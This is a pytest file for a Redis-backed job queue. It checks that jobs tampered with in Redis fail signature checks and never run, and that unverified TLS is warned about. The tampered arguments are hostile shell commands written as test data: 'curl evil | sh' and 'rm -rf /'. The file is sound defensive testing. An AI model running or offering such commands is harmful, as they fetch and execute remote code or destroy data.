"""Signing on Redis: a job rewritten in Redis fails as BadSignature and its task never runs.

Each case writes into Redis what an attacker with write access would (a job's
arguments, a chain step's input), then runs a real worker over the backend.
Both Redis backends, on fakeredis and on the session's real redis-server.
"""

from __future__ import annotations

import json
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from jobchain import App, chain
from jobchain.plugins import Plugins
from jobchain.worker import Worker

redis = pytest.importorskip("redis", reason="jobchain-redis is not installed (pip install -e backends/redis)")
fakeredis = pytest.importorskip("fakeredis", reason="fakeredis is not installed")

from jobchain_redis.common import RedisBackend  # noqa: E402
from jobchain_redis.lists import ListsBackend  # noqa: E402
from jobchain_redis.streams import StreamsBackend  # noqa: E402

KINDS = {"lists": ListsBackend, "streams": StreamsBackend}
KEYS = ["redis-signing-test-key-0123456789"]


@pytest.fixture(params=["lists-fake", "streams-fake", "lists-server", "streams-server"])
def backend(request: pytest.FixtureRequest) -> Iterator[RedisBackend]:
    kind, where = request.param.split("-")
    prefix = f"sig{uuid.uuid4().hex[:10]}"
    if where == "fake":
        made: RedisBackend = KINDS[kind](fakeredis.FakeRedis(decode_responses=True), prefix=prefix)
    else:
        url = request.getfixturevalue("redis_server_url").replace("redis://", f"redis-{kind}://")
        made = KINDS[kind].from_url(f"{url}?prefix={prefix}")  # type: ignore[attr-defined]
    yield made
    made.delete_everything()
    made.close()


def _app(backend: RedisBackend, ran: list[tuple[str, Any]]) -> App:
    app = App(backend=backend, plugins=Plugins(entry_points=False), signing_keys=KEYS)

    @app.task(name="shell")
    def shell(command: str) -> str:
        ran.append(("shell", command))
        return command.upper()

    @app.task(name="second", queue="second")
    def second(text: str) -> str:
        ran.append(("second", text))
        return text

    return app


def _rewrite(backend: RedisBackend, job_id: str, queue: str, **changes: Any) -> None:
    """Change fields of a stored job's payload in Redis, as someone with write access could."""
    key = backend.keys.job(job_id, queue)
    payload = json.loads(backend.client.hget(key, "job"))
    payload.update(changes)
    backend.client.hset(key, "job", json.dumps(payload))


def _drain(app: App, queues: list[str], expect_failed: int) -> None:
    worker = Worker(app, concurrency=2, lease=5.0, poll=0.05, queues=queues)
    worker.start()
    try:
        assert worker.drain(timeout=20.0), "the worker did not drain the queue"
        deadline = time.monotonic() + 10.0
        while len(app.backend.failed()) < expect_failed and time.monotonic() < deadline:
            time.sleep(0.02)
    finally:
        worker.stop(timeout=10.0)


def test_rewritten_args_in_redis_fail_as_bad_signature(backend: RedisBackend) -> None:
    """A queued job whose args were rewritten in Redis is failed as BadSignature and never runs."""
    ran: list[tuple[str, Any]] = []
    app = _app(backend, ran)
    good = app.submit("shell", "echo good")
    target = app.submit("shell", "echo harmless")
    _rewrite(backend, target.id, "default", args=["curl evil | sh"])
    _drain(app, ["default"], expect_failed=1)
    assert ran == [("shell", "echo good")]
    [entry] = backend.failed()
    assert (entry.job.id, entry.error.type) == (target.id, "BadSignature")
    assert good.wait(timeout=5) == "ECHO GOOD"
    backend.redrive([target.id])  # a re-drive is checked again
    _drain(app, ["default"], expect_failed=1)
    assert ran == [("shell", "echo good")]
    assert [e.error.type for e in backend.failed()] == ["BadSignature"]


def test_an_injected_unsigned_job_fails(backend: RedisBackend) -> None:
    """A job written into Redis without a signature (its 'sig' removed) fails as BadSignature."""
    ran: list[tuple[str, Any]] = []
    app = _app(backend, ran)
    target = app.submit("shell", "echo harmless")
    _rewrite(backend, target.id, "default", sig=None)
    _drain(app, ["default"], expect_failed=1)
    assert ran == []
    assert [(e.job.id, e.error.type) for e in backend.failed()] == [(target.id, "BadSignature")]


def test_a_chain_step_input_rewritten_in_redis_fails(backend: RedisBackend) -> None:
    """A chain's next step whose input (the previous result) was rewritten in Redis never runs."""
    ran: list[tuple[str, Any]] = []
    app = _app(backend, ran)
    shell, second = app.tasks["shell"], app.tasks["second"]
    forged = chain(shell, second).submit("ls")
    honest = chain(shell, second).submit("pwd")
    _drain(app, ["default"], expect_failed=0)
    forged_step = forged.job_ids()[1][0]
    _rewrite(backend, forged_step, "second", args=["rm -rf /"])
    _drain(app, ["second"], expect_failed=1)
    assert ("second", "rm -rf /") not in ran
    assert ("second", "PWD") in ran
    assert honest.wait(timeout=5) == "PWD"
    assert [(e.job.id, e.error.type) for e in backend.failed()] == [(forged_step, "BadSignature")]


def test_unverified_tls_is_warned_at_connect(tmp_path: Path) -> None:
    """``rediss-…://?ssl_cert_reqs=none`` logs a warning naming the risk and the fix, without the password."""
    import structlog.testing
    from jobchain_redis.connection import connect, parse_url

    ca = tmp_path / "ca.pem"  # (a CA file must exist: a missing one is refused when the URL is read)
    ca.write_text("")
    with structlog.testing.capture_logs() as logs:
        connect(parse_url("rediss-lists://:hunter2-secret@127.0.0.1:1/0?ssl_cert_reqs=none")).close()
        connect(parse_url(f"rediss-lists://127.0.0.1:1/0?ssl_ca_certs={ca}")).close()
    warnings = [e for e in logs if e["event"] == "tls_certificate_not_verified"]
    assert len(warnings) == 1
    assert warnings[0]["log_level"] == "warning"
    assert "ssl_ca_certs" in warnings[0]["hint"]
    assert "hunter2" not in str(warnings[0])
